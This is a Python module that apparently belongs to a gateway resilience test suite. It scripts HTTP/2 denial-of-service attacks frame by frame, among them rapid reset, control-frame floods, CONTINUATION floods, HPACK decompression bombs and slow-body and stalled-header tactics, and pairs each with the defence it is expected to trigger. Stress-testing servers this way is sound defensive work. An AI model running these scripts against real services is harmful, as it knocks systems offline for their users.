"""The attacks over HTTP/2: each script is what one connection sends."""

from abuse.frames import (
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GET, OPENING, PING, PREFACE, PRIORITY, RST_STREAM, SETTINGS,
    frame, headers, literal, post, settings, streams, window_update,
)
from abuse.swarm import Attack

PATH = b"/v2/models/fraud/versions/1/infer"
#: Frames in a piece.
MANY = 256


def flood(unit: bytes, before: bytes = b""):
    """The same frame for ever."""
    def script():
        yield OPENING + before
        block = unit * MANY
        while True:
            yield block
    return script


def each_stream(make, opening: bytes = OPENING, at_once: int = MANY):
    """`make(stream)` for one stream after another; with fewer than MANY at once, waiting in between."""
    def script():
        yield opening
        identifiers = streams()
        while True:
            yield b"".join(make(next(identifiers)) for _ in range(at_once))
            if at_once < MANY:
                yield None
    return script


def provoke(make):
    """Resets that the gateway must send, never more than it allows streams."""
    return each_stream(make, at_once=40)


def hold(first: bytes, again: bytes | None = None):
    """Says `first`, then nothing, or a little now and then."""
    def script():
        yield first
        while True:
            yield None
            if again:
                yield again
    return script


def rapid_reset(stream: int) -> bytes:
    return headers(stream, GET, END_HEADERS | END_STREAM) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")


def window_overflow(stream: int) -> bytes:
    return headers(stream, post(PATH)) + window_update(stream, (1 << 31) - 1)


def zero_increment(stream: int) -> bytes:
    return headers(stream, post(PATH)) + window_update(stream, 0)


def wrong_length(stream: int) -> bytes:
    return headers(stream, post(PATH, 1)) + frame(DATA, END_STREAM, stream, b"ab")


def endless_trailers(stream: int) -> bytes:
    return headers(stream, post(PATH)) + headers(stream, literal(b"x", b"y"))


def malformed(stream: int) -> bytes:
    return headers(stream, GET + literal(b"X-Upper", b"y"), END_HEADERS | END_STREAM)


def unfinished(stream: int) -> bytes:
    return headers(stream, post(PATH))


#: One entry that fills the table, and a list that names it as often as fits: 15 KB that mean 60 MB.
BOMB = GET + literal(b"a", b"b" * 4000, indexed=True) + b"\xbe" * 11000


def hpack_bomb(stream: int) -> bytes:
    return headers(stream, BOMB, END_HEADERS | END_STREAM)


def trailer_bomb(stream: int) -> bytes:
    return headers(stream, post(PATH)) + headers(stream, BOMB[len(GET):], END_HEADERS | END_STREAM)


def large_fields(stream: int) -> bytes:
    return headers(stream, GET + literal(b"x", b"y" * 8150) * 2, END_HEADERS | END_STREAM)


def many_fields(stream: int) -> bytes:
    return headers(stream, GET + literal(b"x", b"") * 3000, END_HEADERS | END_STREAM)


def window_updates():
    yield PREFACE + settings() + frame(SETTINGS, ACK)
    while True:
        yield window_update(0, 1) * MANY


def continuations():
    while True:
        yield OPENING + headers(1, GET, 0) + frame(CONTINUATION, 0, 1) * 5000


def oversized_frames():
    while True:
        yield OPENING + b"\xff\xff\xff" + bytes([0xEE, 0]) + b"\0\0\0\0" + b"x" * 100000


def bodies_never_done(end: bool = False):
    """A hundred bodies up to their first windows, one byte short of an end."""
    def script():
        yield OPENING
        identifiers = [2 * index + 1 for index in range(100)]
        yield b"".join(headers(stream, post(PATH, 1 << 20)) for stream in identifiers)
        for _ in range(3):
            for stream in identifiers:
                yield frame(DATA, 0, stream, b" " * 16384)
        while True:
            yield None
            yield b"".join(frame(DATA, 0, stream, b" " * 100) for stream in identifiers[:50])
    return script


def bodies_too_large():
    while True:
        yield OPENING + headers(1, post(PATH))
        for _ in range(80):
            yield frame(DATA, 0, 1, b" " * 16384)


def drip():
    """Fifty bodies, a byte each now and then."""
    yield OPENING + b"".join(headers(2 * index + 1, post(PATH, 100)) for index in range(50))
    while True:
        yield None
        yield b"".join(frame(DATA, 0, 2 * index + 1, b" ") for index in range(50))


def data(stream: int, body: bytes) -> bytes:
    """A whole body, in frames as large as they may be."""
    pieces = [body[start:start + 16384] for start in range(0, len(body), 16384)]
    return b"".join(frame(DATA, 0, stream, piece) for piece in pieces[:-1]) + frame(DATA, END_STREAM, stream, pieces[-1])


def window_closed(body: bytes):
    """Large answers are asked for, and the window for them never opens."""
    def script():
        yield PREFACE + settings({4: 0}) + frame(SETTINGS, ACK)
        identifiers = streams()
        for _ in range(100):
            stream = next(identifiers)
            yield headers(stream, post(PATH)) + data(stream, body)
        while True:
            yield None
    return script


def requests(body: bytes):
    """Honest requests, as many as the gateway takes."""
    request = post(PATH)

    def make(stream: int) -> bytes:
        return headers(stream, request) + data(stream, body)

    def script():
        yield OPENING
        identifiers = streams()
        while True:
            yield b"".join(make(next(identifiers)) for _ in range(20))
            yield None
    return script


def attacks(small: bytes, large: bytes) -> list[Attack]:
    """`small`, `large`: bodies of requests that are answered 200."""
    glitches = ("glitches",)
    return [
        Attack("rapid reset", each_stream(rapid_reset), glitches),
        Attack("made you reset: window overflow", provoke(window_overflow), glitches, pause=0.005),
        Attack("made you reset: zero increment", provoke(zero_increment), closed=True, pause=0.005),
        Attack("made you reset: content-length", provoke(wrong_length), glitches, pause=0.005),
        Attack("made you reset: trailers without an end", provoke(endless_trailers), glitches, pause=0.005),
        Attack("made you reset: malformed fields", provoke(malformed), glitches, pause=0.005),
        Attack("made you reset, never reading", provoke(wrong_length), glitches, reads=False, pause=0.005),
        Attack("streams beyond the limit", each_stream(unfinished), closed=True),
        Attack(
            "streams beyond the limit, settings not acknowledged", each_stream(unfinished, PREFACE + settings()),
            ("streams", "glitches")),
        Attack("PING", flood(frame(PING, 0, 0, bytes(8))), glitches),
        Attack("PING, never reading", flood(frame(PING, 0, 0, bytes(8))), glitches, reads=False),
        Attack("PING answers", flood(frame(PING, ACK, 0, bytes(8))), glitches),
        Attack("SETTINGS", flood(settings({3: 100})), glitches),
        Attack("SETTINGS, never reading", flood(settings()), glitches, reads=False),
        Attack("PRIORITY", flood(frame(PRIORITY, 0, 1, b"\0\0\0\0\x10")), glitches),
        Attack("unknown frames", flood(frame(0xEE, 0, 0)), glitches),
        Attack("unknown frames, full", flood(frame(0xEE, 0, 0, bytes(16384))), glitches),
        Attack("WINDOW_UPDATE", window_updates, glitches),
        Attack("empty DATA", flood(frame(DATA, 0, 1), headers(1, post(PATH))), ("empty_data",)),
        Attack("padded empty DATA", flood(frame(DATA, 8, 1, b"\x03\0\0\0"), headers(1, post(PATH))), ("empty_data",)),
        Attack("DATA of a byte", flood(frame(DATA, 0, 1, b" "), headers(1, post(PATH))), glitches),
        Attack("CONTINUATION", continuations, closed=True),
        Attack("frames over the size limit", oversized_frames, closed=True),
        Attack("HPACK bomb", each_stream(hpack_bomb), ("header_bytes",)),
        Attack("HPACK bomb in trailers", each_stream(trailer_bomb), ("header_bytes",)),
        Attack("large fields", each_stream(large_fields), ("header_bytes",)),
        Attack("many fields", each_stream(many_fields), ("header_bytes",)),
        Attack("header block that never ends", hold(OPENING + headers(1, GET, 0)), ("header_timeout",), 100),
        Attack("bodies by the byte", drip, ("receive_rate", "body_timeout")),
        Attack("bodies that are never done", bodies_never_done(), ("receiving_bytes", "receive_rate")),
        Attack("bodies over the limit", bodies_too_large, ("body_bytes",)),
        Attack("window never opened", window_closed(large), ("send_rate", "output_bytes")),
        Attack("requests, never reading", requests(large), ("send_rate",), reads=False, pause=0.0),
        Attack("requests without end", requests(small), pause=0.0),
        Attack("half a preface", hold(PREFACE[:10]), ("header_timeout",), 100),
        Attack("no SETTINGS", hold(PREFACE), ("header_timeout",), 100),
        Attack("SETTINGS not acknowledged", hold(PREFACE + settings()), ("settings_timeout",), 100),
    ]
